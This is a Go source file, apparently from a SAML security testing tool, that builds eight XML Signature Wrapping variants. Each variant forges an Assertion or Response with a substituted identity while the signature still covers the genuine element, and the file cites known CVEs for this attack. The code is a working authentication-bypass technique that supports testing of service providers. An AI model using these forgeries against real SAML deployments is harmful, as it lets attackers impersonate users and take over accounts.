package fault

import (
	"fmt"
	"slices"

	"github.com/beevik/etree"
)

func wrappingFaults() []Fault {
	return []Fault{
		{Name: "signature-wrapped", Summary: "a forged Assertion is read while the signature covers a genuine one elsewhere",
			Refs: []string{"On Breaking SAML, USENIX Security 2012", "CVE-2022-41912", "CVE-2024-45409", "CVE-2025-47949", "The Fragile Lock, 2025"},
			Params: []Param{
				{Name: "variant", Kind: Choice, Required: true, Example: "3", Choices: wrappingNames(),
					Doc: "where forged and genuine stand; 1 to 8 as SAML Raider numbers them"},
				{Name: "order", Kind: Choice, Choices: []string{genuineFirst, forgedFirst}, Doc: "which comes first in the document; as the variant has it when absent"},
				{Name: "value", Kind: String, Default: "mallory@example.com", Doc: "the forged identifier"},
				{Name: "replaces", Kind: String, Doc: "the text that the forged identifier replaces wherever it stands; that of the NameID when absent"}},
			Document: wrap},
	}
}

// wrapping arranges a forged element and the genuine, signed one. It gets the
// genuine element with its Signature in place and a forged copy without one.
type wrapping struct {
	name     string
	response bool // forges the Response, else the Assertion
	arrange  func(m *Message, genuine, forged, signature *etree.Element)
}

func wrappings() []wrapping { return slices.Concat(classicWrappings(), laterWrappings()) }

// classicWrappings are those of the paper, as SAML Raider numbers them.
func classicWrappings() []wrapping {
	return []wrapping{
		{"1", true, func(_ *Message, genuine, forged, signature *etree.Element) {
			placeSignature(forged, signature)
			signature.AddChild(genuine)
		}},
		{"2", true, func(_ *Message, genuine, forged, signature *etree.Element) {
			placeSignature(forged, signature)
			forged.InsertChildAt(signature.Index(), genuine)
		}},
		{"3", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			m.Response.InsertChildAt(genuine.Index(), forged)
		}},
		{"4", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			m.Response.InsertChildAt(genuine.Index(), forged)
			forged.AddChild(genuine)
		}},
		{"5", false, func(m *Message, genuine, forged, signature *etree.Element) {
			m.Response.InsertChildAt(genuine.Index(), forged)
			placeSignature(forged, signature)
			m.Response.AddChild(genuine)
		}},
		{"6", false, func(m *Message, genuine, forged, signature *etree.Element) {
			m.Response.InsertChildAt(genuine.Index(), forged)
			placeSignature(forged, signature)
			signature.AddChild(genuine)
		}},
		{"7", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			extensions := sibling(m.Response, "Extensions")
			extensions.AddChild(forged)
			m.Response.InsertChildAt(statusIndex(m), extensions)
		}},
		{"8", false, func(m *Message, genuine, forged, signature *etree.Element) {
			m.Response.InsertChildAt(genuine.Index(), forged)
			placeSignature(forged, signature)
			object := sibling(signature, "Object")
			signature.AddChild(object)
			object.AddChild(genuine)
		}},
	}
}

func wrappingNames() []string {
	var names []string
	for _, w := range wrappings() {
		names = append(names, w.name)
	}
	return names
}

func wrap(m *Message, a Args) error {
	for _, w := range wrappings() {
		if w.name != a.String("variant") {
			continue
		}
		genuine, err := m.element("Assertion")
		if err != nil {
			return err
		}
		replaced := a.String("replaces")
		if id := genuine.FindElement("Subject/NameID"); !a.Has("replaces") && id != nil {
			replaced = id.Text()
		}
		if w.response {
			genuine = m.Response
		}
		signature := genuine.SelectElement("Signature")
		if signature == nil {
			return fmt.Errorf("wrapping %s needs a signed %s", w.name, genuine.Tag)
		}
		signature.Remove()
		forged := forge(genuine, replaced, a.String("value"))
		w.arrange(m, genuine, forged, signature)
		if m.failure != nil {
			return m.failure
		}
		arrangeInOrder(genuine, forged, a.String("order"))
		if w.response {
			m.Response, m.Assertion = forged, forged.SelectElement("Assertion")
		}
	}
	return nil
}

// forge copies an element under another ID, with the identifier replaced.
func forge(genuine *etree.Element, replaced, value string) *etree.Element {
	forged := genuine.Copy()
	forged.CreateAttr("ID", "_forged")
	walk(forged, func(el *etree.Element) {
		switch {
		case el.Tag == "Assertion" && el != forged:
			el.CreateAttr("ID", "_forged-assertion")
		case replaced != "" && len(el.ChildElements()) == 0 && el.Text() == replaced:
			el.SetText(value)
		}
	})
	return forged
}

// placeSignature puts a Signature where the schema wants it.
func placeSignature(el, signature *etree.Element) {
	if issuer := el.SelectElement("Issuer"); issuer != nil {
		insertAfter(issuer, signature)
		return
	}
	el.InsertChildAt(0, signature)
}

func statusIndex(m *Message) int {
	if status := m.Response.SelectElement("Status"); status != nil {
		return status.Index()
	}
	return 0
}
